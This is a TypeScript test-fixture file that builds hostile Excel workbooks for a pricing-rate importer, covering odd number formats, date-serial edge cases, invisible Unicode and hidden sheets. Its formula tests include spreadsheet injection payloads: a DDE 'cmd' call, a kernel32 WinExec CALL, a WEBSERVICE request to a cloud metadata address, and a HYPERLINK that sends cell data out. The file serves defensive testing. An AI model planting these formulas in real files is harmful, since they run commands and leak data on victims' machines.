import type { Row } from '@coverwright/rules/rating/pricing'
import {
  bookOf,
  type Fate,
  goodRows,
  HEADER,
  type HostileFile,
  listOf,
  MAIN,
  number,
  RATES,
  row,
  sheetOf,
  text,
} from './hostile-book.builder'

type Add = ReturnType<typeof listOf>['add']
const AGES = ['18-25', '26-64', '65+']
const band = (from: string, to: string | null) => ({ from, to })
const BANDS = [band('18', '25'), band('26', '64'), band('65', null)]

/** A table of three rates whose second column is written in these cells. */
const withCells = (cells: readonly string[], styles?: string, before?: string) =>
  bookOf({
    sheet: sheetOf(HEADER + AGES.map((age, at) => row(text(age), cells[at] ?? '')).join('')),
    ...(styles && { styles }),
    ...(before && { workbookBefore: before }),
  })
const rated = (...values: string[]): Row[] => values.map((value, at) => [BANDS[at] as Row[number], value])

/** Rates enough to tell what the column is, and in its second row a cell that is none. */
const withBad = (cell: string) =>
  bookOf({
    sheet: sheetOf(
      HEADER +
        ['1-9', '10-19', '20-29', '30-39', '40-49']
          .map((age, at) => row(text(age), at === 1 ? cell : number(at + 1)))
          .join(''),
    ),
  })
const withoutBad = (code: string): Fate => ({
  rows: [['1', '9'], ['20', '29'], ['30', '39'], ['40', '49']].map(([from = '', to = ''], at) => [band(from, to), String(at ? at + 2 : 1)]), // oxfmt-ignore
  problems: [[code, 'Rates!B3']],
})
const FORMULA = (formula: string, saved: string) => `<c><f>${formula}</f>${saved}</c>`

/** Values that are not what they look like. */
export function hostileValues(): HostileFile[] {
  const { add, files } = listOf('values', 'xlsx')
  numbers(add)
  formulas(add)
  dates(add)
  unseen(add)
  return files
}

function numbers(add: Add) {
  for (const [where, written] of [
    ['points', ['1,234.56', '2,000.00', '12,345,678.9']],
    ['commas', ['1.234,56', '2.000,00', '12.345.678,9']],
    ['spaces', ['1 234,56', '2 000,00', '12 345 678,9']],
    ['narrow spaces', ['1\u202f234,56', '2\u202f000,00', '12\u202f345\u202f678,9']],
    ['hard spaces', ['1\u00a0234,56', '2\u00a0000,00', '12\u00a0345\u00a0678,9']],
    ['apostrophes', ["1'234.56", "2'000.00", "12'345'678.9"]],
    ['full width', ['１，２３４．５６', '２，０００．００', '１２，３４５，６７８．９']],
  ] as const)
    add(`numbers as text with ${where}`, { rows: rated('1234.56', '2000', '12345678.9') }, () =>
      withCells(written.map(text)),
    )
  for (const value of [
    'NaN',
    'Infinity',
    '-Infinity',
    '1e999',
    '1e400',
    '0x1F',
    '1.2.3',
    '--1',
    '1e',
    '٣',
    '1,5',
    '1_000',
  ])
    add(`the number ${value}`, withoutBad('imports.notNumber'), () => withBad(number(value)))
  add('a number of a million digits', withoutBad('imports.notNumber'), () => withBad(number('9'.repeat(1_000_000))))
  add('the noise of binary fractions', { rows: rated('1.15', '0.3', '1') }, () =>
    withCells([number('1.1499999999999999'), number('0.30000000000000004'), number('0.99999999999999989')]),
  )
  add('exponents', { rows: rated('0.001', '250', '1.2') }, () =>
    withCells([number('1E-3'), number('2.5e2'), number('12E-1')]),
  )
}

function formulas(add: Add) {
  add('a formula whose saved value lies', { rows: rated('99', '1', '1.2') }, () =>
    withCells([FORMULA('1+1', '<v>99</v>'), number(1), number(1.2)]),
  )
  for (const formula of [
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://10.0.0.1/?"&amp;A1,"x")',
    'WEBSERVICE("http://169.254.169.254/")',
    '[1]Other!A1',
    'INDIRECT("A1")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
  ])
    add(`the formula ${formula.slice(0, 22)}`, { rows: rated('1.5', '1', '1.2') }, () =>
      withCells([FORMULA(formula, '<v>1.5</v>'), number(1), number(1.2)]),
    )
  add('a formula that was never worked out', withoutBad('imports.formulaEmpty'), () => withBad(FORMULA('NOW()', '')))
  for (const error of ['#REF!', '#DIV/0!', '#NAME?', '#N/A', '#VALUE!'])
    add(`the error ${error}`, withoutBad('imports.cellError'), () => withBad(`<c t="e"><v>${error}</v></c>`))
  for (const start of ['=1+1', '+1+cmd', '-1+cmd', '@SUM(1)'])
    add(`the text ${start} for a rate`, withoutBad('imports.notNumber'), () => withBad(text(start)))
}

const DATED = `<styleSheet ${MAIN}><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`

function dates(add: Add) {
  const since = (serials: readonly string[], before = '') =>
    bookOf({
      sheet: sheetOf(
        row(text('Since'), text('Factor')) +
          serials.map((serial, at) => row(`<c s="1"><v>${serial}</v></c>`, number(1 + at / 10))).join(''),
      ),
      styles: DATED,
      workbookBefore: before,
    })
  const days = (...dates: string[]): Row[] => dates.map((date, at) => [date, String(1 + at / 10)])
  const lastBad = (serial: string) => since(['45000', '45001', '45002', '45003', serial])
  const withoutLast: Fate = {
    rows: days('2023-03-15', '2023-03-16', '2023-03-17', '2023-03-18'),
    problems: [['imports.notDate', 'Rates!A6']],
  }
  add('days as serial numbers from 1900', { rows: days('2023-03-15', '1900-02-28', '1900-03-01') }, () =>
    since(['45000', '59', '61']),
  )
  add('days as serial numbers from 1904', { rows: days('2023-03-15', '1904-01-01', '1904-03-01') }, () =>
    since(['43538', '0', '60'], '<workbookPr date1904="1"/>'),
  )
  add('the day that never was', withoutLast, () => lastBad('60'))
  add('a day after the last', withoutLast, () => lastBad('2958466'))
  add('a day before the first', withoutLast, () => lastBad('-1'))
  add('a day with its time', { rows: days('2023-03-15', '2023-03-16') }, () => since(['45000.999', '45001.000001']))
}

function unseen(add: Add) {
  const UNSEEN = {
    'zero width': '\u200b',
    'a joiner': '\u200d',
    'right to left': '\u202e',
    'an isolate': '\u2067',
    'a soft hyphen': '\u00ad',
    'a byte order mark': '\ufeff',
    'a tag letter': '\u{e0041}',
    'a word joiner': '\u2060',
  }
  for (const [what, mark] of Object.entries(UNSEEN))
    add(`${what} in every header and band`, goodRows, () =>
      bookOf({
        sheet: sheetOf(
          row(text(`A${mark}ge`), text(`${mark}Factor`)) +
            AGES.map((age, at) => row(text(`${mark}${age}${mark}`), number([1.5, 1, 1.2][at] as number))).join(''),
        ),
      }),
    )
  add('dashes and digits of other scripts', goodRows, () =>
    bookOf({
      sheet: sheetOf(
        HEADER +
          ['１８－２５', '26\u201364', '65＋']
            .map((age, at) => row(text(age), number([1.5, 1, 1.2][at] as number)))
            .join(''),
      ),
    }),
  )
  add('a sheet that is hidden', goodRows, () =>
    bookOf({ change: (_, content) => content.replace('sheetId="1"', 'state="veryHidden" sheetId="1"') }),
  )
  add('rates written as links', goodRows, () =>
    bookOf({ sheet: sheetOf(HEADER + RATES.join(''), '<hyperlinks><hyperlink ref="B2" r:id="rId9"/></hyperlinks>') }),
  )
}
